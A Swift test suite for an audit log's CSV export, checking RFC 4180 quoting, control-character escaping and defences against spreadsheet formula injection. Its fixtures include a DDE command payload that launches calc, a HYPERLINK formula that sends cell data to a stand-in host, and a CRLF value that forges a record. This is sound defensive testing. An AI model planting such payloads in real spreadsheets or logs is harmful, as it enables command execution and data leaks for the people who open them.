import Audit
import Clocks
import Testing

/// The CSV of a log: what any reader of RFC 4180 gets out of it, and what no spreadsheet runs.
@Suite struct EventCSVTests {
    /// Reads records by RFC 4180 alone, as somebody else's program would.
    private func records(_ text: String) throws -> [[String]] {
        var records: [[String]] = []
        var fields: [String] = []
        var field = ""
        var rest = text.unicodeScalars[...]
        var isQuoted = false
        while let scalar = rest.popFirst() {
            switch (scalar, isQuoted) {
            case ("\"", true) where rest.first == "\"":
                rest.removeFirst()
                field.unicodeScalars.append(scalar)
            case ("\"", true): isQuoted = false
            case ("\"", false):
                // A quotation mark opens a field or stands in a quoted one, nowhere else.
                try #require(field.isEmpty)
                isQuoted = true
            case (",", false):
                fields.append(field)
                field = ""
            case ("\r", false):
                let next = rest.popFirst()
                try #require(next == "\n")
                records.append(fields + [field])
                (fields, field) = ([], "")
            default: field.unicodeScalars.append(scalar)
            }
        }
        try #require(!isQuoted && field.isEmpty && fields.isEmpty, "the last record is not ended")
        return records
    }

    private func onlyField(_ value: String) throws -> String {
        let read = try records(CSVLine.text([value, "x"]))
        try #require(read.count == 1 && read[0].count == 2)
        return read[0][0]
    }

    @Test func `a leaf is a record with its members in their columns`() {
        let header = """
            index,time,kind,subject,seq,session,flow,from,to,cause,purpose,actor,payload,state\r\n
            """
        #expect(EventCSV.header == header)
        let record = """
            7,2026-03-01T09:00:01.250Z,consent.given,3f9c2a1b5d7e48069a0bc1d2e3f40516,2,\
            00112233445566778899aabbccddeeff,order-updates@1a2b3c4d5e6f7081,notice,ask-name,\
            choice:agree,order-updates,contact,\
            239f59ed55e737c77147cf55ad0c1b030b6d7ee748a7426952f9b852d5a935e5,\
            4ba69735ca53765ed6a709edb56c6ea236b7193a3b29a6b390c346f0f4340e4e\r\n
            """
        #expect(EventCSV.record(SampleLog.given, at: 7) == record)
    }

    @Test func `an absent member is an empty field, and a contact's number is never zero`() {
        let record = "0,2026-03-01T09:00:00.000Z,store.opened,,,,,,,,,engine,,\r\n"
        #expect(EventCSV.record(SampleLog.opened, at: 0) == record)
    }

    @Test func `a row that is no leaf has as many fields as any other`() throws {
        let read = try records(EventCSV.header + EventCSV.unreadable(at: 12))
        #expect(read.map(\.count) == [EventCSV.columns.count, EventCSV.columns.count])
        #expect(read[1].filter { !$0.isEmpty } == ["12", "not a leaf"])
    }

    @Test(arguments: [
        "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
        "\u{ff1d}1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}1", "=\u{301}1",
    ])
    func `what begins like a formula begins with an apostrophe`(value: String) throws {
        #expect(try onlyField(value) == "'" + value)
    }

    @Test(arguments: ["\t", "\r", "\n", "\0"])
    func `a formula behind a character that a spreadsheet drops is text as well`(
        first: String
    ) throws {
        let field = try onlyField(first + "=1+1")
        #expect(field.hasPrefix("'\\u{"))
        #expect(field.hasSuffix("}=1+1"))
    }

    @Test(arguments: ["", "a", "a=b", "1-2", "a@b", "'=1", "choice:accept", "→ ü"])
    func `what does not begin like a formula stays as it is`(value: String) throws {
        #expect(try onlyField(value) == value)
    }

    @Test(arguments: [",", "\"", "a,b", "a\"b", "\"\"", "\",\"=1", "=\",\"=1"])
    func `a comma or a quotation mark does not end its field`(value: String) throws {
        let isFormula = value.hasPrefix("=")
        #expect(try onlyField(value) == (isFormula ? "'" : "") + value)
    }

    @Test func `a field is quoted only when it has to be`() {
        #expect(CSVLine.text(["a b", "a;b", "a'b"]) == "a b,a;b,a'b\r\n")
        #expect(CSVLine.text(["a,b", "say \"no\""]) == "\"a,b\",\"say \"\"no\"\"\"\r\n")
    }

    @Test func `no control character and nothing that turns the text comes out as it is`() throws {
        let controls = (0..<0x20).map { UInt32($0) } + [0x7f] + (0x80..<0xa0).map { UInt32($0) }
        for value in controls + [0x200b, 0x2028, 0x2029, 0x202e, 0x2066, 0xfeff] {
            let scalar = try #require(Unicode.Scalar(value))
            let line = CSVLine.text(["a\(scalar)b"])
            #expect(line == "a\\u{\(String(value, radix: 16))}b\r\n")
        }
    }

    @Test func `a log whose names were tampered with is still one record a leaf`() throws {
        let hostile = AuditLeaf(
            event: AuditEvent(
                time: SampleLog.nine,
                kind: .flowMoved,
                flow: "=cmd|' /C calc'!A0",
                from: "a\r\n1,2026-03-01T09:00:00.000Z,consent.given",
                to: "\"",
                cause: "\u{1b}[31m"
            )
        )
        let read = try records(EventCSV.header + EventCSV.record(hostile, at: 1))
        #expect(read.map(\.count) == [EventCSV.columns.count, EventCSV.columns.count])
        #expect(read[1][6] == "'=cmd|' /C calc'!A0")
        #expect(read[1][7] == #"a\u{d}\u{a}1,2026-03-01T09:00:00.000Z,consent.given"#)
        #expect(read[1][8] == "\"")
        #expect(read[1][9] == #"\u{1b}[31m"#)
    }
}
